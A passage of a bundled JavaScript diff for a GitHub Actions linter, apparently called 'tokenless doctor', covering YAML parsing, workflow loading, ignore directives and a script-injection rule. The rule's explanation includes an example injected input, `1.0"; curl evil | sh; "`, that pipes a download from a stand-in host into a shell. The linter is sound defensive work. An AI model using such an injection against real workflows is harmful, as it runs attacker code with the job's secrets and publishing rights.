@@ -1,0 +1,3838 @@
+export const id = 602;
+export const ids = [602];
+export const modules = {
+
+/***/ 5602:
+/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
+
+
+// EXPORTS
+__webpack_require__.d(__webpack_exports__, {
+  O: () => (/* binding */ countBySeverity),
+  j: () => (/* binding */ runDoctor)
+});
+
+// EXTERNAL MODULE: ./packages/cli/src/doctor/step-kinds.ts + 1 modules
+var step_kinds = __webpack_require__(7088);
+// EXTERNAL MODULE: ./packages/cli/src/doctor/workflow-model.ts
+var workflow_model = __webpack_require__(3647);
+;// CONCATENATED MODULE: ./packages/cli/src/doctor/release-facts.ts
+
+
+class ReleaseFacts {
+    repository;
+    publishCache = new Map();
+    tagCache = new Map();
+    testCache = new Map();
+    buildCache = new Map();
+    versionCache = new Map();
+    constructor(repository) {
+        this.repository = repository;
+    }
+    get scripts() {
+        return this.repository.packageScripts;
+    }
+    publishes(step) {
+        let found = this.publishCache.get(step);
+        if (!found)
+            this.publishCache.set(step, (found = (0,step_kinds/* publishesOf */.ZU)(step, this.scripts, this.repository.releaseIt)));
+        return found;
+    }
+    tags(step) {
+        let found = this.tagCache.get(step);
+        if (!found)
+            this.tagCache.set(step, (found = (0,step_kinds/* tagCreationsOf */.SX)(step, this.scripts, this.repository.releaseIt)));
+        return found;
+    }
+    tests(step) {
+        if (!this.testCache.has(step))
+            this.testCache.set(step, (0,step_kinds/* testsRunBy */.G$)(step, this.scripts));
+        return this.testCache.get(step);
+    }
+    build(step) {
+        if (!this.buildCache.has(step))
+            this.buildCache.set(step, (0,step_kinds/* buildRunBy */.tG)(step, this.scripts));
+        return this.buildCache.get(step);
+    }
+    version(step) {
+        if (!this.versionCache.has(step))
+            this.versionCache.set(step, (0,step_kinds/* versionComputedBy */.zt)(step, this.scripts));
+        return this.versionCache.get(step);
+    }
+    /** Publishes to npm, PyPI or TestPyPI made by the job's steps. */
+    jobPublishes(job) {
+        return job.steps.flatMap((step) => this.publishes(step)).filter((p) => p.registry !== 'other');
+    }
+    jobTags(job) {
+        return job.steps.flatMap((step) => this.tags(step));
+    }
+    /** A job that runs tests: a test step, or a call of a reusable workflow that runs them. */
+    isTestJob(job, seen = new Set()) {
+        if (job.steps.some((step) => this.tests(step) !== undefined))
+            return true;
+        const called = job.called;
+        if (called && !seen.has(called)) {
+            seen.add(called);
+            return called.jobs.some((inner) => this.isTestJob(inner, seen));
+        }
+        return false;
+    }
+    /** A job that publishes, itself or through the reusable workflow it calls. */
+    publishesAnywhere(job, seen = new Set()) {
+        if (this.jobPublishes(job).length > 0)
+            return true;
+        const called = job.called;
+        if (called && !seen.has(called)) {
+            seen.add(called);
+            return called.jobs.some((inner) => this.publishesAnywhere(inner, seen));
+        }
+        return false;
+    }
+    /** A workflow that publishes or creates tags or releases. */
+    isReleaseWorkflow(workflow) {
+        return workflow.jobs.some((job) => this.publishesAnywhere(job) || this.jobTags(job).length > 0);
+    }
+    publishesInWorkflow(workflow) {
+        return workflow.jobs.some((job) => this.publishesAnywhere(job));
+    }
+    /** Whether tests run before `step` of `job`: earlier in the job, or in a job it waits for. */
+    testedBefore(job, step) {
+        const index = job.steps.indexOf(step);
+        if (job.steps
+            .slice(0, index < 0 ? job.steps.length : index)
+            .some((each) => this.tests(each) !== undefined))
+            return true;
+        return (0,workflow_model/* upstreamJobs */.oZ)(job).some((upstream) => this.isTestJob(upstream));
+    }
+}
+
+;// CONCATENATED MODULE: ./packages/cli/src/doctor/rule.ts
+function positionOf(node, options = {}) {
+    if (options.needle !== undefined)
+        return node.find(options.needle);
+    return options.key ? node.keyPos() : node.pos();
+}
+
+// EXTERNAL MODULE: ./packages/cli/src/doctor/rules/index.ts + 7 modules
+var doctor_rules = __webpack_require__(1356);
+;// CONCATENATED MODULE: ./packages/cli/src/doctor/analyze.ts
+// Runs the chosen rules over a repository, adds the findings about the files themselves (YAML
+// errors, ignore comments), applies `# tokenless-ignore:` and sorts what is left.
+
+
+
+function countBySeverity(findings) {
+    const counts = { error: 0, warning: 0, note: 0 };
+    for (const finding of findings)
+        counts[finding.severity]++;
+    return counts;
+}
+function runDoctor(repository, rules = doctor_rules/* RULES */.y) {
+    const facts = new ReleaseFacts(repository);
+    const raw = [];
+    const failures = [];
+    const selected = new Set(rules.map((rule) => rule.id));
+    for (const rule of rules) {
+        const report = (node, message, options = {}) => {
+            raw.push({
+                rule: rule.id,
+                severity: options.severity ?? rule.severity,
+                file: node.file,
+                position: positionOf(node, options),
+                message,
+                fix: options.fix ?? rule.fix,
+            });
+        };
+        try {
+            rule.check({ repository, facts, report });
+        }
+        catch (error) {
+            failures.push({
+                rule: rule.id,
+                error: error instanceof Error ? error.message : String(error),
+            });
+        }
+    }
+    if (selected.has('invalid-yaml'))
+        for (const file of repository.files)
+            raw.push(...yamlErrors(file));
+    if (selected.has('ignore-directive'))
+        for (const file of repository.files)
+            raw.push(...directiveProblems(file));
+    const findings = [];
+    const ignored = [];
+    const seen = new Set();
+    for (const finding of raw.sort(compareFindings)) {
+        const key = `${finding.file.rel}:${finding.position.line}:${finding.position.column}:${finding.rule}`;
+        if (seen.has(key))
+            continue;
+        seen.add(key);
+        const directive = ignoreFor(finding);
+        if (directive !== undefined)
+            ignored.push({ ...finding, reason: directive });
+        else
+            findings.push(finding);
+    }
+    return { repository, rules, findings, ignored, failures };
+}
+function compareFindings(a, b) {
+    return (a.file.rel.localeCompare(b.file.rel) ||
+        a.position.line - b.position.line ||
+        a.position.column - b.position.column ||
+        a.rule.localeCompare(b.rule));
+}
+const invalidYamlRule = doctor_rules/* RULES */.y.find((rule) => rule.id === 'invalid-yaml');
+const ignoreDirectiveRule = doctor_rules/* RULES */.y.find((rule) => rule.id === 'ignore-directive');
+function yamlErrors(file) {
+    const first = file.errors[0];
+    if (!first)
+        return [];
+    const more = file.errors.length - 1;
+    return [
+        {
+            rule: invalidYamlRule.id,
+            severity: invalidYamlRule.severity,
+            file,
+            position: {
+                line: first.line,
+                column: first.column,
+                endLine: first.line,
+                endColumn: first.column,
+            },
+            message: `${file.rel} is not valid YAML: ${first.message}${more > 0 ? ` (and ${more} more error${more > 1 ? 's' : ''} after it)` : ''}. GitHub does not run a workflow it cannot parse: nothing in this file runs until it is fixed.`,
+            fix: invalidYamlRule.fix,
+        },
+    ];
+}
+function directiveProblems(file) {
+    const known = new Set(doctor_rules/* RULES */.y.map((rule) => rule.id));
+    const problems = [];
+    for (const directive of file.ignores) {
+        const position = {
+            line: directive.line,
+            column: directive.column,
+            endLine: directive.line,
+            endColumn: directive.column,
+        };
+        const unknown = directive.rules.filter((id) => !known.has(id));
+        let message;
+        if (directive.rules.length === 0)
+            message = '`# tokenless-ignore:` names no rule, so it ignores nothing.';
+        else if (unknown.length > 0)
+            message = `\`# tokenless-ignore:\` names ${unknown.map((id) => `"${id}"`).join(', ')}, which ${unknown.length > 1 ? 'are not rules' : 'is not a rule'}: the finding it was meant for is still reported. Known rules: tokenless doctor --list-rules.`;
+        else if (directive.reason === '')
+            message = `\`# tokenless-ignore: ${directive.rules.join(', ')}\` gives no reason: say why the risk is accepted, for the next maintainer.`;
+        if (message)
+            problems.push({
+                rule: ignoreDirectiveRule.id,
+                severity: ignoreDirectiveRule.severity,
+                file,
+                position,
+                message,
+                fix: ignoreDirectiveRule.fix,
+            });
+    }
+    return problems;
+}
+/** The reason of a directive that covers the finding: on its line, or alone on the lines just above. */
+function ignoreFor(finding) {
+    const { file, position } = finding;
+    if (finding.rule === 'ignore-directive')
+        return undefined;
+    const covers = (line, ownLineOnly) => file.ignores.find((directive) => directive.line === line &&
+        (!ownLineOnly || directive.ownLine) &&
+        directive.rules.includes(finding.rule));
+    const same = covers(position.line, false);
+    if (same)
+        return same.reason;
+    for (let line = position.line - 1; line >= 1; line--) {
+        const text = file.lines[line - 1]?.trim() ?? '';
+        if (!text.startsWith('#'))
+            break;
+        const above = covers(line, true);
+        if (above)
+            return above.reason;
+    }
+    return undefined;
+}
+
+
+/***/ }),
+
+/***/ 8079:
+/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
+
+/* harmony export */ __webpack_require__.d(__webpack_exports__, {
+/* harmony export */   A9: () => (/* binding */ contextPaths),
+/* harmony export */   l$: () => (/* binding */ expressionsIn),
+/* harmony export */   rE: () => (/* binding */ contextPathsIn)
+/* harmony export */ });
+// `${{ }}` expressions in a string, and the context paths they read (`github.event.issue.title`,
+// `inputs.version`, `secrets.NPM_TOKEN`), without evaluating anything.
+/** Every `${{ ... }}` in `text`; quotes inside an expression may contain `}}`. */
+function expressionsIn(text) {
+    const spans = [];
+    let at = text.indexOf('${{');
+    while (at >= 0) {
+        let index = at + 3;
+        let quote = false;
+        let end = -1;
+        while (index < text.length) {
+            const char = text[index];
+            if (char === "'")
+                quote = !quote;
+            else if (!quote && char === '}' && text[index + 1] === '}') {
+                end = index + 2;
+                break;
+            }
+            index++;
+        }
+        if (end < 0)
+            break;
+        const whole = text.slice(at, end);
+        spans.push({ text: whole, inner: whole.slice(3, -2).trim(), start: at });
+        at = text.indexOf('${{', end);
+    }
+    return spans;
+}
+const CONTEXT_PATH = /(?<![\w.'-])([A-Za-z_][\w-]*(?:\.[A-Za-z_*][\w-]*)*)(?![\w-]*\s*\()/g;
+const FUNCTIONS_AND_LITERALS = /^(true|false|null|NaN|Infinity)$/;
+/**
+ * The property paths an expression reads, normalised to dots: `github.event['pull_request'].title`
+ * gives `github.event.pull_request.title`. Function names and string literals are skipped.
+ */
+function contextPaths(expression) {
+    const normalised = expression
+        .replace(/\s*\[\s*'([\w-]*)'\s*\]/g, '.$1')
+        .replace(/\s*\[\s*\*\s*\]/g, '.*')
+        .replace(/\s*\.\s*/g, '.')
+        .replace(/'(?:[^']|'')*'/g, "''");
+    const paths = [];
+    for (const match of normalised.matchAll(CONTEXT_PATH)) {
+        const path = match[1];
+        if (!FUNCTIONS_AND_LITERALS.test(path))
+            paths.push(path);
+    }
+    return paths;
+}
+/** The context paths read anywhere in `text` (inside its `${{ }}` expressions). */
+function contextPathsIn(text) {
+    return expressionsIn(text).flatMap((span) => contextPaths(span.inner));
+}
+
+
+/***/ }),
+
+/***/ 1340:
+/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
+
+
+// EXPORTS
+__webpack_require__.d(__webpack_exports__, {
+  DL: () => (/* binding */ DoctorUsageError),
+  KC: () => (/* binding */ discoverWorkflows),
+  lE: () => (/* binding */ isOwnAction),
+  rV: () => (/* binding */ loadRepository)
+});
+
+// EXTERNAL MODULE: external "node:fs"
+var external_node_fs_ = __webpack_require__(3024);
+// EXTERNAL MODULE: external "node:path"
+var external_node_path_ = __webpack_require__(6760);
+// EXTERNAL MODULE: ./packages/cli/src/doctor/step-kinds.ts + 1 modules
+var step_kinds = __webpack_require__(7088);
+// EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
+var dist = __webpack_require__(8815);
+;// CONCATENATED MODULE: ./packages/cli/src/doctor/yaml-source.ts
+// A YAML file read with positions: every node knows its line and column, comments are kept for
+// the `# tokenless-ignore:` directive, anchors and aliases resolve, each `---` document is its own
+// tree, and a syntax error becomes a located error instead of an exception.
+
+const IGNORE = /^#\s*tokenless-ignore\s*:?\s*(.*)$/;
+/** Parses `text` (never throws): syntax errors land in `errors` with their line. */
+function parseYamlSource(path, rel, text) {
+    const lineCounter = new dist/* LineCounter */.HN();
+    const parser = new dist/* Parser */.iX(lineCounter.addNewLine);
+    const tokens = [...parser.parse(text)];
+    const positionAt = (offset) => {
+        const { line, col } = lineCounter.linePos(Math.min(offset, text.length));
+        return { line, column: col };
+    };
+    const lines = text.split(/\r?\n/);
+    const file = {
+        path,
+        rel,
+        text,
+        lines,
+        documents: [],
+        errors: [],
+        ignores: [],
+        positionAt,
+    };
+    if (text.includes('tokenless-ignore'))
+        collectIgnores(tokens, file);
+    const composer = new dist/* Composer */.Dk({ merge: true, uniqueKeys: false });
+    for (const document of composer.compose(tokens, true)) {
+        for (const error of document.errors) {
+            const { line, column } = positionAt(error.pos[0]);
+            file.errors.push({ line, column, message: firstLine(error.message) });
+        }
+        if (document.errors.length === 0 && document.contents)
+            file.documents.push(new YNode(document.contents, document, file));
+    }
+    return file;
+}
+function firstLine(message) {
+    return message.split('\n')[0].replace(/ at line \d+, column \d+:?$/, '');
+}
+/** Walks the CST for comment tokens; YAML has no other place a comment can hide. */
+function collectIgnores(tokens, file) {
+    const visit = (value) => {
+        if (Array.isArray(value)) {
+            for (const item of value)
+                visit(item);
+            return;
+        }
+        if (!value || typeof value !== 'object')
+            return;
+        const token = value;
+        if (token.type === 'comment' &&
+            typeof token.source === 'string' &&
+            typeof token.offset === 'number') {
+            const match = IGNORE.exec(token.source);
+            if (match) {
+                const { line, column } = file.positionAt(token.offset);
+                const body = match[1].trim();
+                const ids = /^([\w-]+(?:\s*,\s*[\w-]+)*)\s*(.*)$/.exec(body);
+                const before = (file.lines[line - 1] ?? '').slice(0, column - 1);
+                file.ignores.push({
+                    line,
+                    column,
+                    ownLine: before.trim() === '',
+                    rules: ids ? ids[1].split(',').map((id) => id.trim()) : [],
+                    reason: ids ? ids[2].trim() : '',
+                });
+            }
+            return;
+        }
+        for (const [key, child] of Object.entries(value))
+            if (key !== 'source')
+                visit(child);
+    };
+    visit(tokens);
+}
+/** A node of one YAML document, with the file it came from and its key when it is a map value. */
+class YNode {
+    node;
+    doc;
+    file;
+    keyNode;
+    constructor(node, doc, file, 
+    /** The key node when this node is the value of a map entry. */
+    keyNode) {
+        this.node = node;
+        this.doc = doc;
+        this.file = file;
+        this.keyNode = keyNode;
+    }
+    resolved() {
+        let node = this.node;
+        for (let depth = 0; depth < 20 && node && (0,dist/* isAlias */.Vj)(node); depth++)
+            node = node.resolve(this.doc) ?? null;
+        return node;
+    }
+    isMap() {
+        return (0,dist/* isMap */.jh)(this.resolved());
+    }
+    isSeq() {
+        return (0,dist/* isSeq */.oP)(this.resolved());
+    }
+    isNull() {
+        const node = this.resolved();
+        return node === null || ((0,dist/* isScalar */.jn)(node) && node.value === null);
+    }
+    /** The scalar's value as text (numbers and booleans too); undefined for maps, lists and null. */
+    str() {
+        const node = this.resolved();
+        if (!(0,dist/* isScalar */.jn)(node) || node.value === null || node.value === undefined)
+            return undefined;
+        const value = node.value;
+        return typeof value === 'string' ? value : String(value);
+    }
+    /** Map entries in order, `<<` merge keys expanded (own keys win). */
+    entries() {
+        const node = this.resolved();
+        if (!(0,dist/* isMap */.jh)(node))
+            return [];
+        const own = [];
+        const merged = [];
+        for (const pair of node.items) {
+            if (!(0,dist/* isPair */.tO)(pair))
+                continue;
+            const key = pair.key;
+            if (!(0,dist/* isScalar */.jn)(key))
+                continue;
+            const value = new YNode(pair.value ?? null, this.doc, this.file, key);
+            // A `<<` merge key (YAML 1.1, read with `merge: true`) has a symbol for its value.
+            if (typeof key.value === 'symbol') {
+                const sources = value.isSeq() ? value.items() : [value];
+                for (const source of sources)
+                    merged.push(...source.entries());
+                continue;
+            }
+            own.push([String(key.value), value]);
+        }
+        const seen = new Set(own.map(([key]) => key));
+        const result = [...own];
+        for (const [key, value] of merged) {
+            if (seen.has(key))
+                continue;
+            seen.add(key);
+            result.push([key, value]);
+        }
+        return result;
+    }
+    get(key) {
+        return this.entries().find(([name]) => name === key)?.[1];
+    }
+    items() {
+        const node = this.resolved();
+        if (!(0,dist/* isSeq */.oP)(node))
+            return [];
+        return node.items.map((item) => new YNode(item ?? null, this.doc, this.file));
+    }
+    /** A scalar, or each scalar of a list: `needs: a` and `needs: [a, b]` alike. */
+    strings() {
+        if (this.isSeq())
+            return this.items().flatMap((item) => item.strings());
+        const text = this.str();
+        return text === undefined ? [] : [text];
+    }
+    /** Where the value is; for an empty value, where its key is. */
+    pos() {
+        const node = this.resolved();
+        const range = node?.range ?? this.keyNode?.range;
+        if (!range || (node && (0,dist/* isScalar */.jn)(node) && node.value === null && this.keyNode))
+            return this.keyPos();
+        return this.span(range[0], range[1]);
+    }
+    /** Where the key is (the value's position when it has no key). */
+    keyPos() {
+        const range = this.keyNode?.range;
+        if (!range)
+            return this.node?.range ? this.span(this.node.range[0], this.node.range[1]) : this.span(0, 0);
+        return this.span(range[0], range[1]);
+    }
+    /** The position of `needle` inside this scalar's source text, or of the scalar. */
+    find(needle, from = 0) {
+        const node = this.resolved();
+        const range = node?.range;
+        if (range) {
+            const at = this.file.text.slice(range[0], range[1]).indexOf(needle, from);
+            if (at >= 0)
+                return this.span(range[0] + at, range[0] + at + needle.length);
+        }
+        return this.pos();
+    }
+    span(start, end) {
+        const from = this.file.positionAt(start);
+        // A block scalar's range ends after its last line break: end on the content.
+        let stop = end;
+        while (stop > start && /\s/.test(this.file.text[stop - 1] ?? ''))
+            stop--;
+        const to = this.file.positionAt(stop);
+        return { line: from.line, column: from.column, endLine: to.line, endColumn: to.column };
+    }
+}
+
+// EXTERNAL MODULE: ./packages/cli/src/doctor/workflow-model.ts
+var workflow_model = __webpack_require__(3647);
+;// CONCATENATED MODULE: ./packages/cli/src/doctor/repository.ts
+// Finds the workflows under PATH, reads them, and follows what they use inside the repository:
+// composite actions (`uses: ./path` or `$/path`, expanded into the job's steps) and reusable
+// workflows (`uses: ./.github/workflows/x.yml`, read and linked to the calling job).
+
+
+
+
+
+class DoctorUsageError extends Error {
+}
+const YAML_FILE = /\.ya?ml$/;
+/** The workflow files PATH names and the repository root they belong to; `shown` is PATH as typed. */
+function discoverWorkflows(path, shown = path) {
+    const target = (0,external_node_path_.resolve)(path);
+    if (!(0,external_node_fs_.existsSync)(target))
+        throw new DoctorUsageError(`${shown} does not exist.`);
+    if ((0,external_node_fs_.statSync)(target).isFile()) {
+        if (!YAML_FILE.test(target))
+            throw new DoctorUsageError(`${shown} is not a YAML file (.yml or .yaml).`);
+        return { root: repositoryRoot((0,external_node_path_.dirname)(target)), files: [target] };
+    }
+    const workflowsDir = (0,external_node_path_.join)(target, '.github', 'workflows');
+    const dir = (0,external_node_fs_.existsSync)(workflowsDir) ? workflowsDir : target;
+    const files = (0,external_node_fs_.readdirSync)(dir)
+        .filter((name) => YAML_FILE.test(name))
+        .sort()
+        .map((name) => (0,external_node_path_.join)(dir, name))
+        .filter((file) => (0,external_node_fs_.statSync)(file).isFile());
+    if (files.length === 0) {
+        throw new DoctorUsageError(`no workflows in ${shown}: looked for .yml and .yaml files in ${(0,external_node_path_.join)(shown, '.github', 'workflows')} and in ${shown} itself. Give a repository, a folder of workflows, or a workflow file.`);
+    }
+    return { root: dir === workflowsDir ? target : repositoryRoot(target), files };
+}
+/** The nearest folder up from `dir` with a .github or .git, else `dir`. */
+function repositoryRoot(dir) {
+    const parts = dir.split(external_node_path_.sep);
+    const github = parts.lastIndexOf('.github');
+    if (github > 0 && parts[github + 1] === 'workflows')
+        return parts.slice(0, github).join(external_node_path_.sep) || external_node_path_.sep;
+    for (let current = dir;; current = (0,external_node_path_.dirname)(current)) {
+        if ((0,external_node_fs_.existsSync)((0,external_node_path_.join)(current, '.github')) || (0,external_node_fs_.existsSync)((0,external_node_path_.join)(current, '.git')))
+            return current;
+        if ((0,external_node_path_.dirname)(current) === current)
+            return dir;
+    }
+}
+function loadRepository(root, paths) {
+    const manifest = readManifest(root);
+    const repository = {
+        root,
+        files: [],
+        workflows: [],
+        actions: [],
+        missing: [],
+        packageScripts: manifest.scripts,
+        releaseIt: readReleaseItSettings(root, manifest.releaseIt),
+        selfNames: new Set([(0,external_node_path_.basename)(root), manifest.name?.replace(/^@[^/]+\//, '')]
+            .filter((name) => Boolean(name))
+            .map((name) => name.toLowerCase())),
+    };
+    const workflowsByPath = new Map();
+    const actionsByPath = new Map();
+    const readSource = (path) => {
+        const rel = (0,external_node_path_.relative)(root, path).split(external_node_path_.sep).join('/') || (0,external_node_path_.basename)(path);
+        const file = parseYamlSource(path, rel, (0,external_node_fs_.readFileSync)(path, 'utf8'));
+        repository.files.push(file);
+        return file;
+    };
+    const loadAction = (ref, folder) => {
+        const dir = (0,external_node_path_.resolve)(root, folder);
+        if (actionsByPath.has(dir))
+            return actionsByPath.get(dir);
+        actionsByPath.set(dir, undefined);
+        const path = ['action.yml', 'action.yaml'].map((name) => (0,external_node_path_.join)(dir, name)).find(external_node_fs_.existsSync);
+        if (!path)
+            return undefined;
+        const file = readSource(path);
+        const node = file.documents[0];
+        const runs = node?.get('runs');
+        if (!node || runs?.get('using')?.str() !== 'composite')
+            return undefined;
+        const action = {
+            file,
+            node,
+            ref,
+            steps: [],
+            inputs: node
+                .get('inputs')
+                ?.entries()
+                .map(([name, value]) => ({ name, type: undefined, node: value })) ?? [],
+        };
+        actionsByPath.set(dir, action);
+        repository.actions.push(action);
+        action.steps = (runs?.get('steps')?.items() ?? []).map((step) => (0,workflow_model/* readStep */.jg)(step, undefined, action));
+        for (const step of action.steps)
+            expandLocalAction(step, undefined);
+        return action;
+    };
+    /** A step that uses `./x` or `$/x`: note the action, or that it is missing. */
+    const expandLocalAction = (step, job) => {
+        const ref = step.uses;
+        const path = (0,workflow_model/* localPath */.$S)(ref);
+        if (ref === undefined || path === undefined)
+            return undefined;
+        const action = loadAction(ref.replace(/\/+$/, ''), path);
+        if (!action &&
+            !(0,external_node_fs_.existsSync)((0,external_node_path_.resolve)(root, path)) &&
+            ((0,workflow_model/* isSelfRepositoryRef */.g5)(ref) || !checksOutElsewhere(job)))
+            repository.missing.push({ step, job, ref });
+        return action;
+    };
+    const loadWorkflows = (path) => {
+        const known = workflowsByPath.get(path);
+        if (known)
+            return known;
+        const workflows = [];
+        workflowsByPath.set(path, workflows);
+        const file = readSource(path);
+        for (const document of file.documents) {
+            const workflow = (0,workflow_model/* readWorkflow */.S6)(file, document);
+            if (workflow)
+                workflows.push(workflow);
+        }
+        repository.workflows.push(...workflows);
+        for (const workflow of workflows) {
+            for (const job of workflow.jobs) {
+                job.steps = job.steps.flatMap((step) => [step, ...stepsOfAction(step, job, new Set())]);
+                const uses = job.uses?.str()?.trim();
+                const path = (0,workflow_model/* localPath */.$S)(uses?.split('@')[0]);
+                if (uses !== undefined && path !== undefined) {
+                    const called = (0,external_node_path_.resolve)(root, path);
+                    if ((0,external_node_fs_.existsSync)(called) && (0,external_node_fs_.statSync)(called).isFile()) {
+                        job.called = loadWorkflows(called)[0];
+                        if (job.called && !job.called.events.has('workflow_call'))
+                            repository.missing.push({ step: undefined, job, ref: uses, notReusable: true });
+                    }
+                    else
+                        repository.missing.push({ step: undefined, job, ref: uses });
+                }
+            }
+        }
+        return workflows;
+    };
+    /** The steps of the local composite action `step` uses, as steps of `job` (nested ones too). */
+    const stepsOfAction = (step, job, seen) => {
+        const action = expandLocalAction(step, job);
+        if (!action || seen.has(action))
+            return [];
+        seen.add(action);
+        return action.steps.flatMap((inner) => {
+            const expanded = { ...inner, job, via: step.via ?? step };
+            return [
+                expanded,
+                ...stepsOfAction(inner, job, seen).map((deep) => ({ ...deep, via: step.via ?? step })),
+            ];
+        });
+    };
+    for (const path of paths)
+        loadWorkflows(path);
+    return repository;
+}
+/** A job that checks out another repository or into a sub-folder: `./x` may not be ours. */
+function checksOutElsewhere(job) {
+    return (job?.steps.some((step) => step.uses?.startsWith('actions/checkout') &&
+        (step.with?.get('repository') !== undefined || step.with?.get('path') !== undefined)) ?? false);
+}
+function readManifest(root) {
+    try {
+        const manifest = JSON.parse((0,external_node_fs_.readFileSync)((0,external_node_path_.join)(root, 'package.json'), 'utf8'));
+        const scripts = {};
+        for (const [name, value] of Object.entries(manifest.scripts ?? {}))
+            if (typeof value === 'string')
+                scripts[name] = value;
+        return {
+            name: typeof manifest.name === 'string' ? manifest.name : undefined,
+            scripts,
+            releaseIt: manifest['release-it'],
+        };
+    }
+    catch {
+        return { name: undefined, scripts: {}, releaseIt: undefined };
+    }
+}
+/** release-it's settings from .release-it.json or package.json; its defaults for anything else. */
+function readReleaseItSettings(root, fromManifest) {
+    let config = fromManifest;
+    try {
+        config = JSON.parse((0,external_node_fs_.readFileSync)((0,external_node_path_.join)(root, '.release-it.json'), 'utf8'));
+    }
+    catch {
+        // no .release-it.json (or not JSON): package.json's settings, if any
+    }
+    const section = (name) => typeof config === 'object' && config !== null
+        ? config[name]
+        : undefined;
+    const setting = (name, key, fallback) => {
+        const value = section(name);
+        if (value === false)
+            return false;
+        if (typeof value !== 'object' || value === null)
+            return fallback;
+        const own = value[key];
+        return typeof own === 'boolean' ? own : fallback;
+    };
+    return {
+        npmPublish: setting('npm', 'publish', step_kinds/* RELEASE_IT_DEFAULTS */.jj.npmPublish),
+        gitTag: setting('git', 'tag', step_kinds/* RELEASE_IT_DEFAULTS */.jj.gitTag),
+        githubRelease: setting('github', 'release', step_kinds/* RELEASE_IT_DEFAULTS */.jj.githubRelease),
+    };
+}
+/**
+ * Whether `owner/name/path@ref` is an action or workflow of this very repository: `name` is the
+ * repository's (its folder's or package.json's name) and `path` is here.
+ */
+function isOwnAction(repository, uses) {
+    const [owner, name, ...path] = uses.split('@')[0].split('/');
+    if (!owner || !name || !repository.selfNames.has(name.toLowerCase()))
+        return false;
+    const target = (0,external_node_path_.join)(repository.root, ...path);
+    if (path.join('/').startsWith('.github/workflows/'))
+        return (0,external_node_fs_.existsSync)(target);
+    return (0,external_node_fs_.existsSync)((0,external_node_path_.join)(target, 'action.yml')) || (0,external_node_fs_.existsSync)((0,external_node_path_.join)(target, 'action.yaml'));
+}
+
+
+/***/ }),
+
+/***/ 1356:
+/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
+
+
+// EXPORTS
+__webpack_require__.d(__webpack_exports__, {
+  y: () => (/* binding */ RULES)
+});
+
+// EXTERNAL MODULE: ./packages/cli/src/doctor/expressions.ts
+var expressions = __webpack_require__(8079);
+// EXTERNAL MODULE: ./packages/cli/src/doctor/workflow-model.ts
+var workflow_model = __webpack_require__(3647);
+;// CONCATENATED MODULE: ./packages/cli/src/doctor/rules/injection.ts
+// `${{ }}` pasted into a script: the value becomes code before the shell sees it.
+
+
+/** Event fields that are numbers, ids, hashes, booleans or fixed words: they cannot carry a command. */
+const SAFE_EVENT_FIELD = /\.(number|id|node_id|\w+_id|sha|\w+_sha|after|before|draft|merged|private|fork|size|\w+_count|additions|deletions|changed_files|run_attempt|run_number|created_at|updated_at|prerelease|forced|deleted|created|conclusion|status|action)$/;
+const SAFE_INPUT_TYPES = new Set(['boolean', 'number', 'choice', 'environment']);
+/** Event fields that only maintainers can write: the base branch of a pull request is one of ours. */
+const MAINTAINER_FIELDS = new Set(['github.event.pull_request.base.ref', 'github.base_ref']);
+/** The events whose payload has each top-level field: elsewhere the field is always empty. */
+const PAYLOAD_EVENTS = {
+    release: ['release'],
+    pull_request: [
+        'pull_request',
+        'pull_request_target',
+        'pull_request_review',
+        'pull_request_review_comment',
+    ],
+    issue: ['issues', 'issue_comment'],
+    comment: ['issue_comment', 'commit_comment', 'pull_request_review_comment', 'discussion_comment'],
+    review: ['pull_request_review'],
+    head_commit: ['push'],
+    commits: ['push'],
+    workflow_run: ['workflow_run'],
+    discussion: ['discussion', 'discussion_comment'],
+};
+function dangerous(path, scope) {
+    const { inputs, events } = scope;
+    const input = /^(?:github\.event\.)?inputs\.([\w-]+)$/.exec(path)?.[1];
+    if (input !== undefined) {
+        const declared = inputs.find((each) => each.name === input);
+        // GitHub refuses to start a workflow with an input it does not declare: it is always empty.
+        if (!declared && events && (events.has('workflow_dispatch') || events.has('workflow_call')))
+            return false;
+        return !declared?.type || !SAFE_INPUT_TYPES.has(declared.type);
+    }
+    if (path === 'inputs' || path === 'github.event' || path === 'github.event.inputs')
+        return true;
+    if (path === 'github.head_ref')
+        return true;
+    if (!path.startsWith('github.event.') || MAINTAINER_FIELDS.has(path))
+        return false;
+    const root = path.split('.')[2];
+    const from = PAYLOAD_EVENTS[root];
+    // A reusable workflow sees its caller's event, whatever its own `on:` says.
+    if (from && events && events.size > 0 && !events.has('workflow_call'))
+        if (!from.some((event) => events.has(event)))
+            return false;
+    return root === 'client_payload' || !SAFE_EVENT_FIELD.test(path);
+}
+function envName(path) {
+    const last = path.split('.').pop() ?? 'value';
+    const name = last.replace(/[^A-Za-z0-9]+/g, '_').toUpperCase();
+    return /^[A-Z_]/.test(name) ? name : `VALUE_${name}`;
+}
+const scriptInjection = {
+    id: 'script-injection',
+    severity: 'error',
+    title: '`${{ github.event.* }}`, `${{ github.head_ref }}` or `${{ inputs.* }}` expanded inside `run:` (script injection).',
+    why: 'GitHub pastes the value into the script before the shell runs it: a release title, a branch name, a commit message or a dispatch input such as `1.0"; curl evil | sh; "` becomes commands that run with the job\'s token and secrets (and, in a publish job, its power to publish). The same value in `env:` is data, not code.',
+    fix: 'Pass the value through `env:` (`env: TITLE: ${{ github.event.release.name }}`) and use `"$TITLE"` in the script.',
+    bad: `on:
+  workflow_dispatch:
+    inputs:
+      version: { type: string, required: true }
+permissions: { contents: read }
+jobs:
+  bump:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo "Releasing \${{ inputs.version }}"
+`,
+    good: `on:
+  workflow_dispatch:
+    inputs:
+      version: { type: string, required: true }
+permissions: { contents: read }
+jobs:
+  bump:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo "Releasing $VERSION"
+        env:
+          VERSION: \${{ inputs.version }}
+`,
+    check({ repository, report }) {
+        const steps = [];
+        for (const workflow of repository.workflows)
+            for (const job of workflow.jobs)
+                for (const step of job.steps)
+                    if (!step.via)
+                        steps.push({
+                            step,
+                            scope: { inputs: workflow.inputs, events: workflow.events },
+                            where: `job "${job.id}"`,
+                        });
+        for (const action of repository.actions)
+            for (const step of action.steps)
+                steps.push({
+                    step,
+                    scope: { inputs: [], events: undefined },
+                    where: `composite action ${action.ref}`,
+                });
